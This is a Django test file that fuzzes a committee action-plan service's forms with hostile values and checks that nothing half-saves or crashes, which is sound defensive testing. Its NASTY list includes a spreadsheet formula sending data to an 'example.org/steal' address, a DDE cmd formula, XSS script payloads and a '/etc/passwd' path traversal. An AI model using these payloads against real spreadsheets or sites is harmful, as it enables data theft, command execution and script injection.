"""Hostile values in every field of every form, through the test client:
never a 500, nothing half-saved when a form is refused, and nothing stored
that the models' own rules would refuse.

Hypothesis generates the values (control characters, line breaks of every
kind, huge text, other scripts and emoji, HTML, spreadsheet formulas, numbers
too large for the database). Example counts are small and derandomised, so
the file runs in well under a minute and the same on every machine.
"""

import datetime
import re

import pytest
from django.apps import apps
from django.db import transaction
from django.test import Client
from django.urls import reverse
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from actionplans import roles
from actionplans.models import Action, Committee, ProgressEntry, Review
from tests.admin_forms import admin_form_data
from tests.factories import make_action, make_entry, make_owner, make_recommendation, make_review, make_round, make_user

pytestmark = pytest.mark.django_db

EXAMPLES = settings(
    max_examples=20,
    derandomize=True,
    database=None,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)

NASTY = [
    "",
    " ",
    "\x00",
    "a\x01b\x0bc\x1b[31mred\x7f",
    "line one\r\nline two\rline three\u2028four\u2029five\x85six",
    '=HYPERLINK("http://example.org/steal?d="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "Déjà vu 😀 Ελληνικά العربية 中文 \u202eevil\u202c",
    "99999999999999999999",
    "-1",
    "1e999",
    "NaN",
    "2020-02-30",
    "../../etc/passwd",
    "x" * 20_000,
    "word " * 9_000,
]
hostile = st.one_of(
    st.sampled_from(NASTY),
    st.sampled_from(NASTY),
    st.text(max_size=40),
    st.text(alphabet=st.characters(max_codepoint=0x9F), max_size=40),
    st.lists(st.sampled_from(NASTY[:9]), min_size=2, max_size=4).map("".join),
)


def forms(valid: dict):
    """Form data: mostly one field hostile and the rest valid, so that the
    form gets as far as saving; sometimes every field hostile."""
    one = st.tuples(st.sampled_from(sorted(valid)), hostile).map(lambda pair: {**valid, pair[0]: pair[1]})
    every = st.fixed_dictionaries(dict.fromkeys(valid, hostile))
    return st.one_of(one, one, every)


CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")


def audit_counts() -> dict[str, int]:
    """Rows in every history table: a refused form adds none."""
    return {
        model.__name__: model.objects.count() for model in apps.get_models() if model.__name__.startswith("Historical")
    }


def attempt(client, method, url, data, *, accepted_is=(302,)):
    """Send the form inside a savepoint rolled back afterwards, so every
    example starts from the same data. Returns the response."""
    with transaction.atomic():
        before = audit_counts()
        response = getattr(client, method)(url, data)
        assert response.status_code < 500, (url, data)
        assert response.status_code not in (403, 404), "the form was not reached"
        if response.status_code not in accepted_is:
            assert audit_counts() == before, "a refused form changed something"
        else:
            check_stored_text()
        transaction.set_rollback(True)
    return response


def check_stored_text():
    for entry in ProgressEntry.objects.all():
        for name in ("evidence_of_progress", "grade_explanation", "evidence_of_impact", "return_comment"):
            assert not CONTROL.search(getattr(entry, name)), name
    for review in Review.objects.all():
        assert "\n" not in review.title and "\r" not in review.title
    for action in Action.objects.all():
        assert not CONTROL.search(action.agreed_action + action.strand + action.target_text)
    for committee in Committee.objects.all():
        assert committee.name and not CONTROL.search(committee.name) and "\n" not in committee.name


@pytest.fixture
def world(clerk, officer, officer_owner):
    """A small review: a published round, and an open one in which the
    cast's officer has an update to write and another awaits approval."""
    review = make_review(title="Hate Crime")
    published = make_round(review, 2020, 3)
    mine = make_action(make_recommendation(review), owners=[officer_owner])
    colleague = make_user("colleague.test", roles.OFFICER)
    theirs = make_action(make_recommendation(review), owners=[make_owner(user=colleague)])
    old = make_entry(mine, published, owners=[officer_owner])
    make_entry(theirs, published)
    round = review.open_round(
        period=datetime.date(2020, 9, 1),
        deadline=datetime.date(2020, 9, 1),
        meeting_date=datetime.date(2020, 9, 20),
        by=clerk,
    )
    submitted = round.entries.get(action=theirs)
    submitted.save_update(by=colleague, version=submitted.version, submit=True, evidence_of_progress="Done.", grade=2)
    return {
        "review": review,
        "round": round,
        "entry": round.entries.get(action=mine),
        "submitted": submitted,
        "published_entry": old,
        "action": mine,
    }


def signed_in(user):
    client = Client(raise_request_exception=False)
    client.force_login(user)
    return client


def test_the_officers_update_form(world, officer):
    client = signed_in(officer)
    entry = world["entry"]
    url = reverse("update_entry", args=[entry.pk])
    valid = {
        "evidence_of_progress": "Done.",
        "grade": "3",
        "grade_explanation": "Late.",
        "evidence_of_impact": "",
        "version": str(entry.version),
        "submit": "Submit",
    }

    @EXAMPLES
    @given(data=forms(valid))
    def check(data):
        attempt(client, "post", url, data)

    check()


def test_the_approval_form(world, clerk):
    client = signed_in(clerk)
    url = reverse("approve_entry", args=[world["submitted"].pk])

    @EXAMPLES
    @given(data=forms({"decision": "return", "comment": "Say more."}))
    def check(data):
        attempt(client, "post", url, data)

    check()


def test_the_correction_form(world, clerk):
    client = signed_in(clerk)
    url = reverse("correct_entry", args=[world["published_entry"].pk])
    valid = {
        "evidence_of_progress": "Done.",
        "grade": "2",
        "grade_explanation": "",
        "evidence_of_impact": "",
        "reason": "A typo.",
        "version": str(world["published_entry"].version),
    }

    @EXAMPLES
    @given(data=forms(valid))
    def check(data):
        attempt(client, "post", url, data)

    check()


def test_the_open_round_form(world, clerk):
    client = signed_in(clerk)
    world["round"].publish(by=clerk)
    url = reverse("open_round", args=[world["review"].slug])
    # The dates as a date field takes them and as GOV.UK's day, month and
    # year inputs do.
    valid = {"month": "3", "year": "2021", "deadline": "2021-02-26", "meeting_date": "2021-03-18"}
    valid |= {"deadline_day": "26", "deadline_month": "2", "deadline_year": "2021"}
    valid |= {"meeting_date_day": "18", "meeting_date_month": "3", "meeting_date_year": "2021"}

    @EXAMPLES
    @given(data=forms(valid))
    def check(data):
        attempt(client, "post", url, data)

    check()


def test_the_publish_and_reassign_forms(world, clerk):
    client = signed_in(clerk)
    publish = reverse("publish_round", args=[world["round"].pk])
    reassign = reverse("reassign_action", args=[world["action"].pk])

    @EXAMPLES
    @given(confirm=hostile, owners=st.lists(st.one_of(hostile, st.integers().map(str)), max_size=3))
    def check(confirm, owners):
        attempt(client, "post", publish, {"confirm_missing": confirm})
        attempt(client, "post", reassign, {"owners": owners})

    check()


def test_the_export_form(world, clerk):
    client = signed_in(clerk)
    url = reverse("progress_update", args=[world["review"].slug])
    valid = {"round": "2020-09", "format": "docx", "agenda_header": "Item 8", "first_page": "23", "summary": "on"}

    @EXAMPLES
    @given(data=forms(valid), fmt=st.sampled_from(["docx", "xlsx", "html", "pdf"]))
    @example(data={**valid, "agenda_header": "Agenda\x01 Item 8"}, fmt="docx")  # Word's XML refuses it
    def check(data, fmt):
        if data["format"] == "docx":
            data["format"] = fmt
        attempt(client, "get", url, data, accepted_is=(200, 302))

    check()


def test_the_sign_in_form(world):
    client = Client(raise_request_exception=False)

    @EXAMPLES
    @given(username=hostile, password=hostile)
    def check(username, password):
        attempt(client, "post", reverse("login"), {"username": username, "password": password})

    check()


@pytest.mark.parametrize(
    ("model", "fields"),
    [
        ("published_entry", ["evidence_of_progress", "correction_reason"]),
    ],
)
def test_the_admins_forms(world, clerk, model, fields):
    client = signed_in(clerk)
    # An open round's entry is read-only in the admin (the permission table
    # checks that); a published one is corrected there.
    records = {"action": "action", "published_entry": "published_entry"}
    pk = world[records[model]].pk
    model = "progressentry" if model == "published_entry" else model
    url = reverse(f"admin:actionplans_{model}_change", args=[pk])
    initial = admin_form_data(client.get(url), correction_reason="A typo.")
    assert attempt(client, "post", url, initial).status_code == 302  # as the page showed it: saved

    @settings(EXAMPLES, max_examples=10)
    @given(data=forms({name: initial.get(name, "") for name in fields}))
    def check(data):
        attempt(client, "post", url, {**initial, **data})

    check()


@pytest.mark.parametrize("form", ["review details", "add committee", "rename committee"])
def test_the_review_details_and_committee_forms(world, clerk, form):
    """The service's forms that replaced the admin's for the review and its
    committee."""
    client = signed_in(clerk)
    review = world["review"]
    if form == "review details":
        url = reverse("change_review_details", args=[review.slug])
        initial = {
            "committee": str(review.committee_id),
            "title": "Hate Crime",
            "action_plan_agreed_month": "3",
            "action_plan_agreed_year": "2019",
            "version": str(review.version),
        }
        fields = ["title", "action_plan_agreed_month", "action_plan_agreed_year"]
    elif form == "add committee":
        url, initial, fields = reverse("add_committee"), {"name": "Health Select Committee"}, ["name", "next"]
    else:
        url = reverse("rename_committee", args=[review.committee.slug])
        initial, fields = {"name": "Renamed Select Committee"}, ["name"]
    assert attempt(client, "post", url, initial).status_code == 302  # as a clerk would fill it in: saved

    @settings(EXAMPLES, max_examples=10)
    @given(data=forms({name: initial.get(name, "") for name in fields}))
    def check(data):
        attempt(client, "post", url, {**initial, **data})

    check()


@pytest.mark.parametrize("encoding", ["urlencoded", "multipart"])
def test_a_form_body_that_is_not_utf8_is_refused_with_a_page_saying_so_and_nothing_is_stored(world, officer, encoding):
    """Bytes that are not UTF-8 (here Latin-1's "é", and a lone continuation
    byte) would be stored as U+FFFD in place of what was typed."""
    client = signed_in(officer)
    entry = world["entry"]
    url = reverse("update_entry", args=[entry.pk])
    fields = {"evidence_of_progress": b"Caf\xe9 opened \x80", "grade": b"2", "version": str(entry.version).encode()}
    before = audit_counts()
    if encoding == "urlencoded":
        body = b"&".join(name.encode() + b"=" + value.replace(b" ", b"+") for name, value in fields.items())
        response = client.generic("POST", url, body, content_type="application/x-www-form-urlencoded")
    else:
        boundary = "----not-utf8"
        body = (
            b"".join(
                f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n'.encode() + value + b"\r\n"
                for name, value in fields.items()
            )
            + f"--{boundary}--\r\n".encode()
        )
        response = client.generic("POST", url, body, content_type=f"multipart/form-data; boundary={boundary}")
    assert response.status_code == 400
    page = response.content.decode()
    assert "what you sent could not be read" in page and "nothing was saved" in page
    entry.refresh_from_db()
    assert entry.evidence_of_progress == "" and audit_counts() == before


def _csrf_token(client, url) -> str:
    page = client.get(url).content.decode()
    return re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page).group(1)


@pytest.mark.parametrize("charset", ["iso-8859-1", "windows-1252"])
def test_a_form_that_declares_another_character_set_is_refused_as_unreadable_not_a_server_error(
    world, officer, charset, caplog
):
    """Content-Type: application/x-www-form-urlencoded; charset=iso-8859-1,
    with the CSRF check on as in production: the page that bad UTF-8 gets,
    signed out on the sign-in form and signed in on an update, nothing
    stored and nothing logged as an error."""
    content_type = f"application/x-www-form-urlencoded; charset={charset}"
    entry = world["entry"]
    before = audit_counts()
    signed_out = Client(enforce_csrf_checks=True)
    token = _csrf_token(signed_out, reverse("login"))
    body = f"csrfmiddlewaretoken={token}&username=officer.test&password=x".encode()
    response = signed_out.generic("POST", reverse("login"), body, content_type=content_type)
    assert response.status_code == 400
    assert "what you sent could not be read" in response.content.decode()
    client = Client(enforce_csrf_checks=True)
    client.force_login(officer)
    url = reverse("update_entry", args=[entry.pk])
    token = _csrf_token(client, url)
    body = f"csrfmiddlewaretoken={token}&evidence_of_progress=Opened&grade=2&version={entry.version}".encode()
    response = client.generic("POST", url, body, content_type=content_type)
    assert response.status_code == 400
    assert "nothing was saved" in response.content.decode()
    entry.refresh_from_db()
    assert entry.evidence_of_progress == "" and audit_counts() == before
    assert [record.getMessage() for record in caplog.records if record.levelname in ("ERROR", "CRITICAL")] == []


def test_a_form_that_says_it_is_utf8_however_spelt_is_saved(world, officer):
    client = signed_in(officer)
    entry = world["entry"]
    body = f"evidence_of_progress=Caf%C3%A9+opened&grade=2&version={entry.version}".encode()
    url = reverse("update_entry", args=[entry.pk])
    response = client.generic("POST", url, body, content_type="application/x-www-form-urlencoded; charset=UTF8")
    assert response.status_code == 302
    entry.refresh_from_db()
    assert entry.evidence_of_progress == "Café opened"


def test_the_same_form_in_utf8_is_saved(world, officer):
    client = signed_in(officer)
    entry = world["entry"]
    data = {"evidence_of_progress": "Café opened", "grade": "2", "version": str(entry.version)}
    assert client.post(reverse("update_entry", args=[entry.pk]), data).status_code == 302
    entry.refresh_from_db()
    assert entry.evidence_of_progress == "Café opened"
